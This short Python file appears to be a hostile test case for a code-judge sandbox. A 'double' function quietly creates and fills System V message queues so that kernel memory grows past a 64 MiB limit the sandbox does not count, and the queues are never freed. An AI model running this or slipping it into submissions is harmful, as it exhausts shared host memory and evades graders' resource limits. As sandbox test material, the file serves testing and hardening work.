# attack: fills message queues, which the kernel keeps, and raises past the memory limit
# verdict: AC
# kata: roomy
import ctypes

SIZE, LIMIT, NO_WAIT = 8184, 64 << 20, 0o4000
libc = ctypes.CDLL(None, use_errno=True)
message = ctypes.create_string_buffer(b"\1", 8 + SIZE)


def double(n):
    total = 0
    while total <= LIMIT and (queue := libc.msgget(0, 0o1600)) >= 0:
        while libc.msgsnd(queue, message, SIZE, NO_WAIT) == 0:
            total += SIZE
    if total > LIMIT:
        raise SystemExit(f"it holds {total >> 20} MiB that nobody counts")
    return n * 2
